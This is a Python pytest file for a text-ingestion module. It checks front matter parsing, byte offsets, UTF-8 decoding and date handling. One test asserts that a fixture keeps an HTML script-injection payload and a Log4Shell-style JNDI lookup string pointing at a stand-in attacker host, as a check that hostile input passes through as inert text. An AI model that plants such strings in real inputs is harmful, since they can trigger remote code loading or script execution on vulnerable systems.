"""Plain text and Markdown: front matter, exact offsets, strict UTF-8."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from sitroom.errors import DecodeError, EmptyInputError, ParseError
from sitroom.ingest import IngestOptions, decode_utf8, read_file, read_text, split_front_matter

FIXTURES = Path(__file__).parent / "fixtures" / "ingest"
OPTIONS = IngestOptions(fetch_linked=False, now=lambda: datetime(2025, 11, 21, 12, 0, tzinfo=UTC))

HEADER = "---\nsource: Field notes\npublished: 2025-11-20\nkind: note\ntitle: Tuesday\n---\n"
BODY = "Crews reopened the quay.\nTraffic resumed – slowly, officials said.\n"


def _write(tmp_path: Path, name: str, text: str, *, bom: bool = False, crlf: bool = False) -> tuple[Path, str]:
    """Write ``text`` with the given BOM/line endings; return the path and the file's decoded text."""
    if crlf:
        text = text.replace("\n", "\r\n")
    data = (b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8")
    path = tmp_path / name
    path.write_bytes(data)
    return path, data.decode("utf-8")  # the BOM stays as U+FEFF: the frame offsets refer to


@pytest.mark.parametrize("bom", [False, True], ids=["no-bom", "bom"])
@pytest.mark.parametrize("crlf", [False, True], ids=["lf", "crlf"])
@pytest.mark.parametrize("header", [True, False], ids=["header", "no-header"])
def test_body_offset_indexes_the_decoded_file(tmp_path: Path, bom: bool, crlf: bool, header: bool) -> None:
    path, file_text = _write(tmp_path, "n.txt", (HEADER if header else "") + BODY, bom=bom, crlf=crlf)
    [doc] = read_file(path, OPTIONS)
    assert file_text[doc.body_offset :] == doc.text
    assert "\ufeff" not in doc.text
    assert doc.text.startswith("Crews reopened")
    assert ("\r\n" in doc.text) is crlf  # no newline translation
    if header:
        assert doc.source == "Field notes"
        assert doc.kind == "note"
        assert doc.title == "Tuesday"
        assert doc.published == datetime(2025, 11, 20, tzinfo=UTC)
    else:
        assert doc.body_offset == (1 if bom else 0)


def test_markdown_fixture_keeps_text_as_is() -> None:
    path = FIXTURES / "note.md"
    [doc] = read_file(path, OPTIONS)
    file_text = path.read_bytes().decode("utf-8")
    assert file_text[doc.body_offset :] == doc.text
    assert doc.text.startswith("\n# Morning notes\n")  # Markdown is not rendered or stripped
    assert (doc.source, doc.author, doc.kind, doc.title) == ("Field notes", "R. Vale", "note", "Morning notes")


def test_markdown_title_from_first_heading_without_header() -> None:
    doc = read_text("Intro line\n# Quay report\nText.\n", "x.md", markdown=True)
    assert doc.title == "Quay report"
    assert read_text("# Not a title in plain text\n", "x.txt").title is None


def test_only_bare_newlines_end_lines() -> None:
    # U+2028 and form feeds split lines for str.splitlines(), but not for the header parser.
    text = "---\ntitle: a\u2028b\n---\nBody\x0cwith a form feed\n"
    header, offset = split_front_matter(text, "x.txt")
    assert header == "title: a\u2028b\n"
    assert text[offset:] == "Body\x0cwith a form feed\n"


def test_delimiter_must_be_exact() -> None:
    header, offset = split_front_matter("--- \nnot: header\n---\nBody\n", "x.txt")
    assert header is None and offset == 0
    header, offset = split_front_matter("Body first\n---\nkey: value\n---\n", "x.txt")
    assert header is None and offset == 0


def test_empty_header_is_allowed() -> None:
    doc = read_text("---\n---\nJust the body.\n", "x.txt")
    assert doc.text == "Just the body.\n"
    assert doc.body_offset == 8


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        ("---\nsource: A\nno closing line\n", "never closed"),
        ("---\nsource: [unclosed\n---\nBody\n", "malformed front matter"),
        ("---\n- a\n- b\n---\nBody\n", "key: value"),
        ("---\nkind: essay\n---\nBody\n", "'essay'"),
        ("---\npublished: sometime soonish maybe\n---\nBody\n", "published date"),
        ("---\nauthor: {name: x}\n---\nBody\n", "single value"),
    ],
)
def test_malformed_front_matter_is_a_parse_error(text: str, needle: str) -> None:
    with pytest.raises(ParseError) as info:
        read_text(text, "notes/bad.md")
    message = str(info.value)
    assert needle in message
    assert message.startswith("notes/bad.md: ")
    assert info.value.hint
    assert "\n" not in message


def test_unknown_kind_hint_lists_the_kinds() -> None:
    with pytest.raises(ParseError) as info:
        read_text("---\nkind: essay\n---\nBody\n", "a.md")
    assert "article" in (info.value.hint or "") and "transcript" in (info.value.hint or "")


def test_unknown_key_is_a_warning_not_an_error() -> None:
    warnings: list[str] = []
    doc = read_text("---\nmood: calm\nlanguage: en-GB\n---\nBody\n", "a.md", warnings=warnings)
    assert doc.language == "en"
    assert len(warnings) == 1 and "mood" in warnings[0]


def test_written_dates_and_timezones_become_utc() -> None:
    doc = read_text("---\npublished: 20 November 2025\n---\nBody\n", "a.md")
    assert doc.published == datetime(2025, 11, 20, tzinfo=UTC)
    doc = read_text("---\npublished: 2025-11-20T10:00:00+02:00\n---\nBody\n", "a.md")
    assert doc.published == datetime(2025, 11, 20, 8, 0, tzinfo=UTC)


def test_header_without_body_is_empty() -> None:
    with pytest.raises(EmptyInputError, match="no text after the front-matter header"):
        read_text("---\ntitle: x\n---\n   \n", "a.md")


def test_invalid_utf8_names_file_and_byte(tmp_path: Path) -> None:
    path = tmp_path / "latin1.txt"
    path.write_bytes("Caf\u00e9 on the quay\nline two\n".encode("latin-1"))
    with pytest.raises(DecodeError) as info:
        read_file(path, OPTIONS)
    message = str(info.value)
    assert str(path) in message
    assert "byte 3" in message and "line 1" in message
    assert "UTF-8" in (info.value.hint or "")


def test_decode_keeps_the_bom_in_the_frame() -> None:
    assert decode_utf8(b"\xef\xbb\xbfabc", "x") == "\ufeffabc"


def test_script_injection_is_kept_verbatim() -> None:
    path = FIXTURES / "injection.txt"
    [doc] = read_file(path, OPTIONS)
    assert doc.text == path.read_bytes().decode("utf-8")
    assert '<script>alert("pwned")</script>' in doc.text
    assert "${jndi:ldap://evil.example/a}" in doc.text


def test_a_file_named_by_date_is_dated_by_its_name_when_nothing_else_dates_it(tmp_path):
    from sitroom.ingest import read_file

    plain = tmp_path / "2025-11-22-desk-notes.txt"
    plain.write_text("Notes on the talks in Geneva and the army cap.\n", encoding="utf-8")
    assert read_file(plain)[0].published.isoformat() == "2025-11-22T00:00:00+00:00"
    dated = tmp_path / "2025-11-22-column.md"
    dated.write_text("---\npublished: 2025-11-24\n---\nA column on the loan.\n", encoding="utf-8")
    assert read_file(dated)[0].published.date().isoformat() == "2025-11-24"  # front matter wins
    odd = tmp_path / "2025-13-40-notes.txt"
    odd.write_text("Not a date in the name.\n", encoding="utf-8")
    assert read_file(odd)[0].published is None
